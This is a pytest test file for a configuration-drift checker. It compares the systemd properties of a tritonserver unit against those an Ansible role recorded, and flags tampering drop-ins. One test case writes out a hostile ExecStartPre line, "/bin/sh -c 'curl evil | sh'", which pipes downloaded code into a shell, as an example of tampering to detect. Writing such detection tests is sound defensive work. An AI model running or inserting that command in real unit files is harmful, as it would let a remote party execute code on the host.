"""Every property of the unit as systemd runs it against what the triton_server role recorded
(infra/tritonops/agent/effective.py: ``unit_properties``, ``compare_properties``): a drop-in that sets
anything the role does not is a finding, whatever its name; what systemd changes at run time is not.

``data/systemctl_show_tritonserver.txt`` is a real ``systemctl show tritonserver.service`` (systemd 252,
a Podman node converged by ansible/edge.yml: the status the systemd_service module returned in the run
recorded in ``edge_check_tampered.json``). The role's own recording task (the same two patterns, in
Jinja) is proven to give the same record in tests/infra/triton_server/test_unit_record.py."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from tritonops.agent import effective

DATA = Path(__file__).parent / "data"
REPO = Path(__file__).resolve().parents[3]
SHOW = (DATA / "systemctl_show_tritonserver.txt").read_text()
DROP_IN = "/etc/systemd/system/tritonserver.service.d/override.conf"
CONVERGED = effective.parse_show(SHOW)
EXPECTED = {"service": "tritonserver.service", "user": "triton", "unit_args": [], "args": []}


def _live(changes: dict[str, str], drop: tuple[str, ...] = ()) -> dict[str, str]:
    live = {k: v for k, v in {**CONVERGED, **changes}.items() if k not in drop}
    return {k: v for k, v in live.items() if v != ""}


def _restarted() -> dict[str, str]:
    """The same unit after a restart, stop and start, and another unit ordered after it: what systemd
    itself changes, none of it drift."""
    return _live({
        "MainPID": "4242", "ExecMainPID": "4242", "InvocationID": "0123456789abcdef0123456789abcdef",
        "ActiveEnterTimestamp": "Tue 2026-12-01 09:00:00 UTC", "ActiveEnterTimestampMonotonic": "99",
        "ExecMainStartTimestamp": "Tue 2026-12-01 09:00:00 UTC", "NRestarts": "3",
        "ControlGroupId": "9999", "MemoryCurrent": "123456789", "TasksCurrent": "42", "CPUUsageNSec": "5000",
        "NeedDaemonReload": "no", "UID": "997", "GID": "997",
        "Before": CONVERGED["Before"] + " other.service", "After": CONVERGED["After"] + " other.mount",
        "ExecStart": CONVERGED["ExecStart"].replace("start_time=[n/a] ; stop_time=[n/a] ; pid=0 ; code=(null)",
                                                    "start_time=[Tue 2026-12-01 09:00:00 UTC] ; stop_time=[n/a] ; "
                                                    "pid=4242 ; code=(null)"),
    })


def _unit(live: dict[str, str]) -> dict[str, Any]:
    return {"unit": effective.unit_state(live), "process": None}


def _found(live: dict[str, str], expected: dict[str, Any] | None = None) -> dict[str, str]:
    exp = expected or {**EXPECTED, "unit_args": _unit(CONVERGED)["unit"]["exec_start"][0]}
    recorded = effective.unit_properties(CONVERGED)
    return {f["resource"]: f["detail"] for f in effective.compare(exp, _unit(live), recorded)
            if f["resource"].startswith("unit:")}


def test_the_unit_as_recorded_and_after_restarts_is_clean() -> None:
    assert _found(CONVERGED) == {}
    assert _found(_restarted()) == {}


@pytest.mark.parametrize(("drop_in", "prop", "live", "recorded"), [
    ("Environment=GRPC_TRACE=all", "Environment", CONVERGED["Environment"] + " GRPC_TRACE=all",
     CONVERGED["Environment"]),
    ("LimitNOFILE=65536", "LimitNOFILE", "65536", "524288"),
    ("ExecStartPre=/bin/sh -c 'curl evil | sh'", "ExecStartPre",
     "{ path=/bin/sh ; argv[]=/bin/sh -c curl evil | sh ; ignore_errors=no ; start_time=[n/a] ; stop_time=[n/a] ; "
     "pid=0 ; code=(null) ; status=0/0 }", ""),
    ("ReadOnlyPaths=", "ReadOnlyPaths", "", "/var/lib/triton/models"),
    ("ProtectSystem=no", "ProtectSystem", "no", "strict"),
])
def test_a_drop_in_setting_what_the_role_does_not_is_reported(drop_in: str, prop: str, live: str,
                                                              recorded: str) -> None:
    """Each case a property no other check looks at; the drop-in is named, and its path is itself drift."""
    found = _found({**_restarted(), "DropInPaths": DROP_IN, prop: live})
    assert set(found) == {f"unit:{prop}", "unit:DropInPaths"}, found
    assert found[f"unit:{prop}"].endswith(f", the role's unit has {recorded or '(empty)'} (drop-ins: {DROP_IN})")
    assert found[f"unit:{prop}"].startswith(live.replace(" ; start_time=[n/a] ; stop_time=[n/a] ; pid=0 ; "
                                                         "code=(null) ; status=0/0 }", " }") or "(empty)")
    assert found["unit:DropInPaths"].startswith(f"{DROP_IN}, the role's unit has (empty)")


def test_a_drop_in_present_when_the_role_recorded_is_still_reported() -> None:
    """The role writes no drop-in: one recorded by mistake is no baseline."""
    recorded = {**effective.unit_properties(CONVERGED), "DropInPaths": DROP_IN}
    now = _unit({**CONVERGED, "DropInPaths": DROP_IN})
    found = [f["resource"] for f in effective.compare({**EXPECTED, "unit_args": now["unit"]["exec_start"][0]},
                                                      now, recorded) if f["resource"].startswith("unit:")]
    assert found == ["unit:DropInPaths"]


def test_another_binary_and_exec_start_twins() -> None:
    """ExecStart as a whole is compared when its arguments agree (another binary); one finding, not two."""
    other = CONVERGED["ExecStart"].replace("path=/opt/tritonserver/lib", "path=/tmp/lib")
    assert set(_found({**_restarted(), "ExecStart": other, "ExecStartEx": "changed too"})) == {"unit:ExecStart"}
    # Arguments differ: reported per flag only.
    poll = CONVERGED["ExecStart"].replace("--model-control-mode=explicit", "--model-control-mode=poll")
    assert set(_found({**_restarted(), "ExecStart": poll, "ExecStartEx": "changed too"})) == {
        "unit:--model-control-mode"}
    # A "+" prefix (full privileges, whatever User= says) shows in ExecStartEx alone.
    plus = CONVERGED["ExecStartEx"].replace("flags= ;", "flags=privileged ;")
    assert set(_found({**_restarted(), "ExecStartEx": plus})) == {"unit:ExecStartEx"}


def test_user_and_group() -> None:
    found = _found({**_restarted(), "User": "root", "Group": "root"})
    assert set(found) == {"unit:User", "unit:Group"}
    # The container unit sets no user for the role to compare on its own: the property says it.
    found = _found({**_restarted(), "User": "root"}, {**EXPECTED, "user": None,
                                                      "unit_args": _unit(CONVERGED)["unit"]["exec_start"][0]})
    assert found == {"unit:User": "root, the role's unit has triton"}


def test_values_are_redacted_and_clipped() -> None:
    secret = "s3cr3t-value"
    pre = f"{{ path=/bin/x ; argv[]=/bin/x --http-restricted-api=model-repository:k={secret} ; ignore_errors=no }}"
    found = _found({**_restarted(), "ExecStartPre": pre, "Environment": "X=" + "y" * 1000})
    assert secret not in json.dumps(found) and "k=<redacted>" in found["unit:ExecStartPre"]
    assert len(found["unit:Environment"]) < 2 * effective.DETAIL_MAX


def test_repeated_properties_are_kept_one_a_line() -> None:
    text = ("ExecStartPre={ path=/bin/a ; argv[]=/bin/a ; ignore_errors=no ; start_time=[n/a] ; stop_time=[n/a] ; "
            "pid=0 ; code=(null) ; status=0/0 }\nExecStartPre={ path=/bin/b ; argv[]=/bin/b ; ignore_errors=yes ; "
            "start_time=[Tue 2026-12-01 09:00:00 UTC] ; stop_time=[Tue 2026-12-01 09:00:01 UTC] ; pid=7 ; "
            "code=exited ; status=0/0 }\nMainPID=7\n")
    assert effective.unit_properties(effective.parse_show(text)) == {
        "ExecStartPre": "{ path=/bin/a ; argv[]=/bin/a ; ignore_errors=no }\n{ path=/bin/b ; argv[]=/bin/b ; "
                        "ignore_errors=yes }"}


def test_the_roles_record_is_read_and_its_absence_is_a_finding(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                                                                ) -> None:
    record = tmp_path / "expected-unit.json"
    expected = tmp_path / "expected.json"
    exp = {**EXPECTED, "unit_args": _unit(CONVERGED)["unit"]["exec_start"][0], "unit_properties": str(record)}
    expected.write_text(json.dumps(exp))
    live = {**_restarted(), "DropInPaths": DROP_IN, "LimitNOFILE": "65536"}
    monkeypatch.setattr(effective, "systemd_show", lambda service: live)
    monkeypatch.setattr(effective, "posture_findings", lambda **kw: [])

    def found() -> list[str]:
        return [f["resource"] for f in effective.host_findings(expected) if f["resource"] != "process"]

    assert found() == ["triton:expected-unit", "unit:DropInPaths"]  # the drop-in all the same
    record.write_text(json.dumps(effective.unit_properties(CONVERGED)))
    assert found() == ["unit:DropInPaths", "unit:LimitNOFILE"]
    record.write_text("[1]")
    assert found() == ["triton:expected-unit", "unit:DropInPaths"]
    expected.write_text(json.dumps({k: v for k, v in exp.items() if k != "unit_properties"}))
    assert found() == ["triton:expected-unit", "unit:DropInPaths"]


def test_the_role_records_with_the_agents_patterns() -> None:
    role = yaml.safe_load((REPO / "roles" / "triton_server" / "vars" / "main.yml").read_text())
    assert tuple(role["_triton_server_unit_runtime"]) == effective.RUNTIME
    assert role["_triton_server_unit_runtime_properties"] == "^({{ _triton_server_unit_runtime | join('|') }})$"
    assert role["_triton_server_unit_exec_runtime"] == effective.EXEC_RUNTIME
